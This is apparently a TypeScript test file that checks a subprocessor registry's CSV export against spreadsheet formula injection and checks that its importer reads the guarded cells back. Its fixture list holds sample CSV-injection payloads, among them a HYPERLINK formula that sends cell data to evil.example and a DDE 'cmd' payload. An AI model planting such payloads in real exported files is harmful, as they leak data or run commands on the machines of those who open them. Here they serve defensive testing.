// Issue 12, point 6 (the CSV part): a cell a spreadsheet would run as a formula is written with a guard quote
// (OWASP CSV injection), and `subproc import` reads the published CSV back exactly.
import { describe, expect, it } from 'vitest';
import type { RegistrySettings } from '../scripts/generated/registry.js';
import type { Subprocessor } from '../scripts/generated/subprocessor.js';
import { parseCsv } from '../scripts/importer/csv.js';
import { importPage } from '../scripts/importer/import-page.js';
import { buildRelease } from '../scripts/release/build.js';
import { renderCsv } from '../scripts/release/render-list.js';

/** What spreadsheets evaluate (=, +, -, @, and a tab or CR before them), and the guard quote itself. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1 tab',
  '\r=2+2 cr',
  "'=already guarded",
  "'quoted name",
];

const settings: RegistrySettings = {
  controller: { name: 'Example', country: 'FR' },
  noticePeriodDays: 30,
  categories: [
    { id: 'hosting', title: 'Hosting' },
    { id: 'formula', title: '=1+2 Analytics' },
  ],
};

function vendor(i: number, name: string): Subprocessor {
  return {
    id: `vendor-${String(i)}`,
    name,
    category: i % 2 === 0 ? 'hosting' : 'formula',
    service: i % 3 === 0 ? `-service ${String(i)}` : `Service ${String(i)}`,
    tasks: [`=task ${String(i)}`, `@second task ${String(i)}`],
    locations: [{ place: 'US', mechanism: 'scc' }],
    status: 'active',
  };
}

const subprocessors = FORMULAS.map((name, i) => vendor(i + 1, name));
const build = buildRelease({
  settings,
  subprocessors,
  releasedAt: new Date('2026-11-23T10:00:00Z'),
  commit: 'a'.repeat(40),
  reissue: false,
});
if (!build.built) throw new Error('the release must build');
const csv = build.files.get('subprocessors.csv')?.toString('utf8') ?? '';

/** The cells as a spreadsheet reads them: RFC 4180, nothing removed. */
function rawCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text.charAt(i);
    if (quoted) {
      if (ch === '"' && text.charAt(i + 1) === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text.charAt(i + 1) === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('the release CSV against formula injection', () => {
  // A UTF-8 BOM first, for Excel; the cells follow it.
  const rows = rawCells(csv.replace(/^\uFEFF/, ''));

  it('starts with a UTF-8 byte order mark, once', () => {
    expect(build.files.get('subprocessors.csv')?.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.slice(1)).not.toMatch(/\uFEFF/);
  });

  it('writes no cell a spreadsheet would evaluate: each begins with the guard quote, then the text as it was', () => {
    expect(rows).toHaveLength(1 + FORMULAS.length);
    const cells = rows.slice(1).flat();
    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    const names = rows.slice(1).map((r) => r[2]);
    expect(new Set(names)).toEqual(new Set(FORMULAS.map((f) => `'${f}`)));
    expect(rows.slice(1).map((r) => r[1])).toContain("'=1+2 Analytics");
    expect(cells).toContain("'-service 3");
    expect(cells).toContain("'=task 1\n@second task 1");
  });

  it('leaves every other cell as it was', () => {
    expect(csv).toBe(renderCsv(build.doc));
    expect(rows[0]).toEqual([
      'ID',
      'Category',
      'Subcontractor',
      'Users',
      'User codes',
      'Storage place',
      'Place codes',
      'Place user codes',
      'Mechanism allowing international data transfer',
      'Mechanism codes',
      'Service provided',
      'Performed task',
      'Data categories',
      'Data category codes',
      'Data subjects',
      'Data subject codes',
      'Since',
      'Retired on',
      'Retirement reason',
      'Status',
    ]);
    expect(rows.slice(1).map((r) => r[1])).toContain('Hosting');
    expect(rows.slice(1).map((r) => r.slice(5, 10))).toEqual(
      FORMULAS.map(() => ['United States of America', 'US', '', 'Standard Contractual Clauses', 'scc']),
    );
    expect(rows.slice(1).map((r) => r.slice(16))).toEqual(FORMULAS.map(() => ['', '', '', 'active']));
  });
});

describe('subproc import reads the published CSV back', () => {
  it('the same names, categories, services, tasks, places and mechanisms: the guard quote is removed', () => {
    const result = importPage('subprocessors.csv', csv, { format: 'csv', noticePeriodDays: 30 });
    expect(result.diagnostics.map((d) => `${String(d.line)}:${String(d.column)} ${d.message}`)).toEqual([]);
    const read = new Map(result.subprocessors.map((s) => [s.value.name, s.value]));
    // The importer trims cells, as it always has: a name's leading tab or CR does not survive, guarded or not.
    for (const s of subprocessors) {
      const back = read.get(s.name.trim());
      expect(back, s.name).toBeDefined();
      expect(back?.service).toBe(s.service);
      expect(back?.tasks).toEqual(s.tasks);
      expect(back?.locations).toEqual(s.locations);
    }
    expect(result.settings?.categories.map((c) => c.title).sort()).toEqual(['=1+2 Analytics', 'Hosting']);
  });

  it('removes one guard quote and only a guard quote, and points at the text after it', () => {
    const diagnostics: never[] = [];
    const [record] = parseCsv('x.csv', "'=a,'-b,'',''',''x,'x,=c,\"'@d\"\r\n", diagnostics);
    expect(record?.map((c) => c.text)).toEqual(['=a', '-b', "'", "''", "'x", "'x", '=c', '@d']);
    expect(record?.[0]?.column).toBe(2);
  });
});
